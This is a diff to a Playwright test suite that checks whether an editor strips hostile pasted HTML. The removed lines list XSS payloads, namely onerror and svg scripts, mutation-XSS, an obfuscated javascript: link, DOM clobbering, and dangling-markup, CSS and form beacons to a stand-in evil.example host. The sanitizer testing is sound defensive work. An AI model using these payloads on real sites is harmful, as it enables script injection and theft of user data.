@@ -1,35 +1,11 @@
-import { existsSync, readFileSync } from 'node:fs';
-import { fileURLToPath } from 'node:url';
 import { expect, type Locator } from '@playwright/test';
 import { editor, pasteHtml, press, sheet, startEditing, test } from './harness/result-page.ts';
+import { listedPayloads, OWN_PAYLOADS } from './harness/xss-payloads.ts';
 
 test.describe('foreign HTML', () => {
-  const OWN = [
-    '<img src=x onerror="window.__pwn=1">',
-    '<svg><script>window.__pwn=1</script></svg>',
-    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__pwn=1&gt;">',
-    '<a href="jav&#x09;ascript:window.__pwn=1">x</a>',
-    '<form action="https://evil.example"><input name=attributes></form>',
-    '<base href="https://evil.example/"><a href="/x">x</a>',
-    '<style>@import "https://evil.example/a.css"</style>',
-    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-    '<p id="createElement"><a name="body" href="https://ok.example">x</a></p>',
-    "<img src='https://evil.example/?",
-    '<img src="data:image/svg+xml,<svg onload=window.__pwn=1>">',
-    '<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>',
-    '<p style="background:url(https://evil.example/a.png)" onclick="window.__pwn=1">x</p>',
-  ];
-  const FILE = fileURLToPath(new URL('../../shared/xss/payloads.json', import.meta.url));
-  const payloads: string[] = [...OWN, ...(existsSync(FILE) ? payloadsOf(JSON.parse(readFileSync(FILE, 'utf8'))) : [])];
+  const payloads = [...OWN_PAYLOADS, ...listedPayloads()];
   // The last is the editor's own, beside line breaks; it has no source.
   const ALLOWED = 'p, strong, em, ol, ul, li, a[href^="http"], br, mark, span, img.ProseMirror-separator:not([src])';
-
-  function payloadsOf(list: unknown): string[] {
-    if (!Array.isArray(list)) return [];
-    return list.flatMap((one: unknown) =>
-      typeof one === 'object' && one !== null && 'payload' in one ? [String(one.payload)] : [],
-    );
-  }
 
   const strangers = (target: Locator) =>
     target.evaluate(
@@ -63,7 +39,7 @@ test.describe('foreign HTML', () => {
 
   test('restored as an edit becomes plain text', async ({ page, open }) => {
     await open('done');
-    for (const payload of OWN) {
+    for (const payload of OWN_PAYLOADS) {
       await page.getByLabel('HTML of the edit').fill(payload);
       await expect(editor(page)).toBeVisible();
       expect(await strangers(editor(page)), payload).toEqual([]);
